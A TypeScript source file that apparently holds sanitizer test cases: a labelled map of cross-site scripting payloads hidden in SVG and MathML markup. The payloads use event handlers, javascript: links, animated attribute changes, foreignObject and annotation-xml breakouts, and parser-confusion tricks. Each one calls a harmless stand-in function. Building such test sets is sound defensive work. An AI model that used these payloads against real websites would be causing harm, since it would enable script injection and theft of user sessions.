/** SVG and MathML: other rules of parsing, other places for addresses, elements that animate. */
export const FOREIGN: Readonly<Record<string, string>> = {
  'drawing that loads': '<svg onload=pwned()>',
  'drawing with a slash': '<svg/onload=pwned()//',
  'drawing with a script': '<svg><script>pwned()</script></svg>',
  'drawing with a script in references': '<svg><script>&#112;wned&lpar;)</script></svg>',
  'drawing with a script by address': '<svg><script href="data:text/javascript,pwned()"/></svg>',
  'drawing with a script that closes itself':
    '<svg><script xlink:href="data:text/javascript,pwned()" /></svg>',
  'drawing with a link': '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
  'drawing with a plain link':
    '<svg><a href="javascript:pwned()"><rect width=9 height=9 /></a></svg>',
  'drawing whose link is set':
    '<svg><a><text y=20>x</text><set attributeName=href to="javascript:pwned()" /></a></svg>',
  'drawing whose link moves':
    '<svg><a><text y=20>x</text><animate attributeName=href values="javascript:pwned()" /></a></svg>',
  'drawing whose link changes its name':
    '<svg><a><text y=20>x</text><animate attributeName="xlink:href" begin=0 from="javascript:pwned()" to=x /></a></svg>',
  'drawing that begins to move': '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  'drawing that ends to move': '<svg><set onend=pwned() attributeName=x dur=1ms /></svg>',
  'drawing that turns': '<svg><animatetransform onbegin=pwned() attributeName=transform></svg>',
  'drawing with a picture': '<svg><image href=x onerror=pwned() /></svg>',
  'drawing with a use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x onerror=pwned() /></svg>#x" /></svg>',
  'drawing with HTML':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
  'drawing with HTML that breaks out': '<svg><foreignObject><p><img src=x onerror=pwned()></svg>',
  'drawing with a description': '<svg><desc><img src=x onerror=pwned()></desc></svg>',
  'drawing with a title': '<svg><title><img src=x onerror=pwned()></title></svg>',
  'drawing with a style': '<svg><style><img src=x onerror=pwned()></style></svg>',
  'drawing left by a paragraph': '<svg><p><style><img title="</style><img src=x onerror=pwned()>">',
  'drawing with CDATA': '<svg><![CDATA[><img title="]]><img src=x onerror=pwned()>">',
  'drawing with an entity':
    '<!DOCTYPE x [<!ENTITY e "<script>pwned()</script>">]><svg><text>&e;</text><image href=x onerror=pwned() /></svg>',
  'drawing with a discarded handler': '<svg><discard onbegin=pwned() begin=0 /></svg>',
  'drawing with a view': '<svg><view id=x onfocus=pwned() tabindex=1 onclick=pwned()></view></svg>',
  'formula with a link': '<math href="javascript:pwned()">x</math>',
  'formula with a linked letter': '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  'formula with an action':
    '<math><maction actiontype="statusline#http://e.example/" xlink:href="javascript:pwned()">x</maction></math>',
  'formula with HTML': '<math><mtext><img src=x onerror=pwned()></mtext></math>',
  'formula with a drawing': '<math><annotation-xml><svg onload=pwned()></annotation-xml></math>',
  'formula with an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  'formula with an annotation of another kind':
    '<math><annotation-xml encoding="text/xml"><style><img src=x onerror=pwned()></style></annotation-xml></math>',
  'formula with a script': '<math><script>pwned()</script><mi//xlink:href="javascript:pwned()">x',
};
